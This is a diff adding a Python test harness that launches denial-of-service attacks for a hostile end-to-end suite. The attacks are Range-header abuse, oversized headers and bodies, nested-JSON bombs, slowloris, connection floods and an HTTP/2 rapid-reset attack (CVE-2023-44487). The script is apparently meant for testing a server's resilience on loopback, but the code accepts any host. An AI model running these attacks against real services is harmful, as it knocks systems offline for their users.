@@ -1,0 +1,262 @@
+#!/usr/bin/env python3
+"""Attacks for e2e/local/hostile-suite.sh, each against a real listener on loopback.
+
+Every command prints one line "key=value ..." that the suite checks. Standard library only.
+
+  ranges HOST PORT N                 GET /healthz with N Range headers
+  headers HOST PORT MIB              a request whose headers are MIB MiB long
+  body HOST PORT PATH MIB COUNT      COUNT POSTs of MIB MiB (spaces) on one connection
+  announce HOST PORT PATH BYTES      only the header of a POST announcing BYTES
+  nested HOST PORT PATH MIB [tls]    POST of MIB MiB of '[' (TLS with tls)
+  slowloris HOST PORT N SECONDS      N connections dripping a request; probes /healthz meanwhile
+  flood HOST PORT N                  N idle connections held open; probes /healthz meanwhile
+  rapid-reset HOST PORT STREAMS      HTTP/2 HEADERS + RST_STREAM pairs (CVE-2023-44487)
+"""
+import socket
+import ssl
+import struct
+import sys
+import time
+
+
+def connect(host, port, tls=False, timeout=10):
+    s = socket.create_connection((host, port), timeout=timeout)
+    if tls:
+        ctx = ssl.create_default_context()
+        ctx.check_hostname = False
+        ctx.verify_mode = ssl.CERT_NONE
+        s = ctx.wrap_socket(s)
+    return s
+
+
+def read_status(s, timeout=10):
+    s.settimeout(timeout)
+    data = b""
+    try:
+        while b"\r\n" not in data:
+            chunk = s.recv(4096)
+            if not chunk:
+                break
+            data += chunk
+    except (socket.timeout, ConnectionError, ssl.SSLError):
+        pass
+    line = data.split(b"\r\n", 1)[0].decode(errors="replace")
+    parts = line.split()
+    return int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0
+
+
+def probe(host, port, path="/healthz"):
+    """Seconds for a fresh connection's GET, or -1 when it failed."""
+    start = time.time()
+    try:
+        s = connect(host, port, timeout=5)
+        s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
+        status = read_status(s, 5)
+        s.close()
+        return time.time() - start if status == 200 else -1
+    except OSError:
+        return -1
+
+
+def ranges(host, port, n):
+    s = connect(host, port)
+    header = "".join(f"Range: bytes={i}-{i}\r\n" for i in range(n))
+    s.sendall(f"GET /healthz HTTP/1.1\r\nHost: x\r\n{header}\r\n".encode())
+    print(f"status={read_status(s)}")
+
+
+def headers(host, port, mib):
+    s = connect(host, port)
+    status = 0
+    try:
+        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
+        line = b"X-Junk: " + b"a" * 1000 + b"\r\n"
+        for _ in range(mib * 1024):
+            s.sendall(line)
+    except OSError:
+        pass  # the server answered and closed early: read what it said
+    status = read_status(s)
+    print(f"status={status}")
+
+
+def body(host, port, path, mib, count):
+    s = connect(host, port, timeout=60)
+    payload = b" " * (mib << 20)
+    statuses = []
+    for _ in range(count):
+        s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+                  f"Content-Length: {len(payload)}\r\n\r\n".encode() + payload)
+        status = read_status(s, 60)
+        statuses.append(status)
+        # Drain the rest of the answer (small).
+        s.settimeout(0.5)
+        try:
+            while s.recv(65536):
+                pass
+        except (socket.timeout, OSError):
+            pass
+        s.settimeout(60)
+    print("statuses=" + ",".join(map(str, statuses)))
+
+
+def announce(host, port, path, n):
+    s = connect(host, port)
+    start = time.time()
+    s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {n}\r\n\r\n".encode())
+    status = read_status(s)
+    print(f"status={status} seconds={time.time() - start:.3f}")
+
+
+def nested(host, port, path, mib, tls):
+    s = connect(host, port, tls=tls, timeout=60)
+    payload = b"[" * (mib << 20)
+    start = time.time()
+    try:
+        s.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+                  f"Content-Length: {len(payload)}\r\n\r\n".encode() + payload)
+    except OSError:
+        pass
+    status = read_status(s, 60)
+    print(f"status={status} seconds={time.time() - start:.3f}")
+
+
+def slowloris(host, port, n, seconds):
+    conns = []
+    for _ in range(n):
+        try:
+            c = connect(host, port)
+            c.sendall(b"POST /filter HTTP/1.1\r\nHost: x\r\n")
+            conns.append(c)
+        except OSError:
+            pass
+    worst, failed, probes = 0.0, 0, 0
+    end = time.time() + seconds
+    while time.time() < end:
+        for c in conns:
+            try:
+                c.sendall(b"X")
+            except OSError:
+                pass
+        took = probe(host, port)
+        probes += 1
+        if took < 0:
+            failed += 1
+        else:
+            worst = max(worst, took)
+        time.sleep(0.2)
+    cut = 0
+    for c in conns:
+        try:
+            c.settimeout(0.05)
+            if c.recv(1) == b"":
+                cut += 1
+        except socket.timeout:
+            pass
+        except OSError:
+            cut += 1
+        c.close()
+    print(f"connections={len(conns)} probes={probes} failed={failed} worst={worst:.3f} cut={cut}")
+
+
+def flood(host, port, n):
+    conns = []
+    for _ in range(n):
+        try:
+            conns.append(connect(host, port))
+        except OSError:
+            break
+    worst, failed = 0.0, 0
+    for _ in range(10):
+        took = probe(host, port)
+        if took < 0:
+            failed += 1
+        else:
+            worst = max(worst, took)
+    for c in conns:
+        c.close()
+    print(f"connections={len(conns)} probes=10 failed={failed} worst={worst:.3f}")
+
+
+def h2_frame(kind, flags, stream, payload):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
+        ">I", stream) + payload
+
+
+def hpack_literal(name_index, value):
+    # Literal header field without indexing, indexed name (4-bit prefix), raw value.
+    if name_index < 15:
+        prefix = bytes([name_index])
+    else:
+        prefix = bytes([15, name_index - 15])
+    return prefix + bytes([len(value)]) + value
+
+
+def rapid_reset(host, port, streams):
+    headers_block = (b"\x83" + b"\x86" +  # :method POST, :scheme http
+                     hpack_literal(4, b"/headroom.v1.ReportService/Report") +
+                     hpack_literal(1, b"x") +  # :authority
+                     hpack_literal(31, b"application/grpc") +
+                     b"\x00\x02te\x08trailers")
+    sent, connections = 0, 0
+    stream = 1
+    s = None
+    while sent < streams:
+        if s is None:
+            try:
+                s = connect(host, port)
+            except OSError:
+                time.sleep(0.1)
+                continue
+            connections += 1
+            s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b""))
+            s.setblocking(False)
+            stream = 1
+        batch = b""
+        for _ in range(200):
+            batch += h2_frame(1, 4, stream, headers_block)
+            batch += h2_frame(3, 0, stream, struct.pack(">I", 8))  # RST_STREAM CANCEL
+            stream += 2
+        try:
+            s.setblocking(True)
+            s.sendall(batch)
+            s.setblocking(False)
+            sent += 200
+            try:
+                while s.recv(65536):
+                    pass
+            except BlockingIOError:
+                pass
+        except OSError:
+            s.close()
+            s = None
+        if stream > 2**30:
+            s.close()
+            s = None
+    print(f"streams={sent} connections={connections}")
+
+
+def main():
+    cmd, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+    args = sys.argv[4:]
+    if cmd == "ranges":
+        ranges(host, port, int(args[0]))
+    elif cmd == "headers":
+        headers(host, port, int(args[0]))
+    elif cmd == "body":
+        body(host, port, args[0], int(args[1]), int(args[2]))
+    elif cmd == "announce":
+        announce(host, port, args[0], int(args[1]))
+    elif cmd == "nested":
+        nested(host, port, args[0], int(args[1]), len(args) > 2 and args[2] == "tls")
+    elif cmd == "slowloris":
+        slowloris(host, port, int(args[0]), float(args[1]))
+    elif cmd == "flood":
+        flood(host, port, int(args[0]))
+    elif cmd == "rapid-reset":
+        rapid_reset(host, port, int(args[0]))
+    else:
+        sys.exit(f"unknown command {cmd}")
+
+
+if __name__ == "__main__":
+    main()
